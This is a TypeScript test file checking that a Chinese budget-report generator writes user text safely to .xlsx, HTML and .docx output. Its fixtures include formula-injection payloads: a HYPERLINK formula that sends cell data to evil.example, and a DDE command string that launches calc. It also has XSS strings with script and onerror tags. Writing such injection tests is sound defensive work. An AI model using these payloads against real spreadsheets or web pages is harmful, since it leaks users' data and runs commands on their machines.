/**
 * Security: the user's text is data everywhere it goes. Cell text starting with = + - @ is written
 * as text (the .xlsx writer and the Office adapter), and user text is escaped in the clipboard
 * HTML and plain text in the .docx.
 */
import JSZip from 'jszip';
import { buildReport, type ReportOutput } from '../../src/core/pipeline';
import { OUTPUT_SHEETS } from '../../src/core/constants';
import { reportHtmlFragment, reportToHtml } from '../../src/core/report/to-html';
import { buildDocx } from '../../src/word/docx';
import { readWorkbookGrid } from '../../src/xlsx/read-grid';
import { applyPlanToXlsx } from '../../src/xlsx/apply-plan';
import { hostOn } from '../excel/harness';
import { FakeExcel } from '../excel/fake-excel';
import { loadExcel, workbookBytes } from '../xlsx/helpers';
import { book, sheet } from '../helpers/grids';

const FORMULA_LIKE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击领取")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
];
const HTML_LIKE = ['<script>alert(1)</script>项目', '<img src=x onerror=alert(1)>经费', 'A&B"引号\'项目'];
const ORG = '<b>单位</b>&"测试"';

const rows = [
  ['测试单位2024年预算执行台账'],
  ['单位：元'],
  ['项目名称', '支出类别', '全年预算', '1-8月执行数', '备注'],
  ...[...FORMULA_LIKE, ...HTML_LIKE].map((name, i) => [name, '项目支出', 10000 + i, 0, i === 0 ? '=1+1' : null]),
];

function report(): ReportOutput {
  const r = buildReport(book(sheet('台账', rows)), { organization: ORG });
  if (!r.ok) throw r.error;
  return r.value;
}

describe('cell text starting with = + - @ is written as text', () => {
  test('in the .xlsx writer: inline strings, no <f>, and exceljs reads strings', async () => {
    const original = await workbookBytes((wb) => {
      const ws = wb.addWorksheet('台账');
      for (const r of rows) ws.addRow(r);
    });
    const out = buildReport(await readWorkbookGrid(original), { organization: ORG });
    if (!out.ok) throw out.error;
    const written = await applyPlanToXlsx(original, out.value.plan);
    const zip = await JSZip.loadAsync(written);
    const parts = Object.keys(zip.files).filter((p) => /^xl\/worksheets\/sheet\d+\.xml$/.test(p));
    let seen = 0;
    for (const p of parts) {
      const xml = await zip.file(p)!.async('string');
      if (!xml.includes('项目/类别') && !xml.includes('部门事中绩效监控报告')) continue; // the user's own sheet
      seen++;
      expect(xml).not.toMatch(/<f[\s>]/);
      for (const name of FORMULA_LIKE) {
        const escaped = name.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
        // In 监控汇总 each project name is a cell of its own, written as an inline string.
        if (xml.includes('项目/类别'))
          expect(xml).toContain(`t="inlineStr"><is><t xml:space="preserve">${escaped}</t>`);
      }
    }
    expect(seen).toBe(2);
    const wb = await loadExcel(written);
    const found = new Set<string>();
    const names = wb.worksheets.map((w) => w.name);
    expect(names.slice(0, 3)).toEqual(['台账', '监控汇总', '监控报告']);
    for (const n of names.slice(1)) expect(OUTPUT_SHEETS).toContain(n);
    for (const ws of wb.worksheets.filter((w) => OUTPUT_SHEETS.includes(w.name))) {
      ws.eachRow((row) =>
        row.eachCell((c) => {
          if (typeof c.value === 'object' && c.value !== null && 'formula' in c.value)
            throw new Error(`formula at ${c.address}`);
          if (typeof c.value === 'string' && FORMULA_LIKE.includes(c.value)) found.add(c.value);
        }),
      );
    }
    // Each project name is a cell of its own in 监控汇总's project table.
    expect([...found].sort()).toEqual([...FORMULA_LIKE].sort());
  });

  test('in the Office adapter: number format "@" is set before the values, so the fake keeps them as text', async () => {
    const excel = new FakeExcel();
    excel.addSheet('台账', rows as (string | number | null)[][]);
    const host = hostOn(excel);
    const out = buildReport(await host.readGrid(), { organization: ORG });
    if (!out.ok) throw out.error;
    await host.applyPlan(out.value.plan);
    const summary = excel.sheet('监控汇总');
    let checked = 0;
    summary.values.forEach((row, r) =>
      row.forEach((v, c) => {
        if (typeof v !== 'string') return;
        // The fake turns text into FORMULA:… when the cell's format was not '@' at the time the value arrived.
        expect(v.startsWith('FORMULA:')).toBe(false);
        if (/^[=+\-@]/.test(v)) {
          expect(summary.numberFormats.get(r * 16384 + c)).toBe('@');
          checked++;
        }
      }),
    );
    expect(checked).toBeGreaterThanOrEqual(FORMULA_LIKE.length);
    // The user's own "=1+1" remark in the ledger is untouched.
    expect(excel.sheet('台账').value(3, 4)).toBe('=1+1');
  });
});

describe('user text is escaped in HTML and plain text in the .docx', () => {
  test('reportToHtml and the pane fragment escape every user string', () => {
    const model = report().model;
    for (const html of [reportToHtml(model), reportHtmlFragment(model)]) {
      expect(html).not.toMatch(/<script|<img|<b>单位/i);
      expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;项目');
      expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;经费');
      expect(html).toContain('A&amp;B&quot;引号&#39;项目');
      expect(html).toContain('&lt;b&gt;单位&lt;/b&gt;&amp;&quot;测试&quot;');
      // Every tag in the output is one the renderer writes itself.
      const tags = new Set([...html.matchAll(/<\/?([a-zA-Z][\w:]*)/g)].map((m) => m[1]!.toLowerCase()));
      for (const t of tags)
        expect([
          'html',
          'head',
          'meta',
          'title',
          'body',
          'p',
          'span',
          'table',
          'thead',
          'tbody',
          'tr',
          'td',
          'th',
          'br',
          'b',
          'h1',
          'h2',
          'h3',
          'div',
          'col',
          'colgroup',
          'o:p',
        ]).toContain(t);
    }
  });

  test('buildDocx puts user text only inside <w:t> runs, escaped, never in a field', async () => {
    const docx = await buildDocx(report().model);
    const zip = await JSZip.loadAsync(docx);
    const xml = await zip.file('word/document.xml')!.async('string');
    expect(xml).not.toMatch(/<script|<img/);
    expect(xml).toContain('&lt;script&gt;alert(1)&lt;/script&gt;项目');
    // The only field is the page number in the footer; the body has none.
    expect(xml).not.toMatch(/<w:instrText|<w:fldSimple|<w:hyperlink/);
    const total = xml.split('evil.example').length - 1;
    const inRuns = [...xml.matchAll(/<w:t(?:\s[^>]*)?>[^<]*evil\.example/g)].length;
    expect(total).toBeGreaterThan(0);
    expect(inRuns).toBe(total);
    for (const p of Object.keys(zip.files).filter((f) => /^word\/footer\d*\.xml$/.test(f))) {
      const footer = await zip.file(p)!.async('string');
      expect(footer).not.toContain('evil.example');
    }
  });
});
